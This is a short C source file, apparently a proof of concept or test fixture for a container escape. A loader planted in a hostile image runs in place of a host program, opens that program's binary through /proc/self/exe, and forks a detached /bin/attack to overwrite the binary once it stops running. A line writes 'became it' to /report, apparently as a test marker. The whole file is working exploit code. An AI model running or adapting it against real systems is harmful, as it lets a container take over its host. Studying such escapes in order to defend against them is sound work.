// The loader that a hostile image has where programs of the host look for theirs: run in the place of one of them, it
// keeps that program's file open for a tool of the guest's, which writes to it as soon as nobody runs it any more.
//
// Without a C library: the auxiliary vector describes the other program.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

void _start(void) {
    static char place[] = "/proc/self/fd/0", *words[] = { "attack", "write", place, 0 }, *nothing[] = { 0 };
    long report = syscall(SYS_openat, AT_FDCWD, "/report", O_WRONLY | O_CREAT | O_APPEND, 0644);
    syscall(SYS_write, report, "became it\n", 10);
    long file = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY);
    place[sizeof place - 2] = (char)('0' + file);
    if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) {
        syscall(SYS_setsid);
        syscall(SYS_execve, "/bin/attack", words, nothing);
    }
    syscall(SYS_exit_group, 0);
}
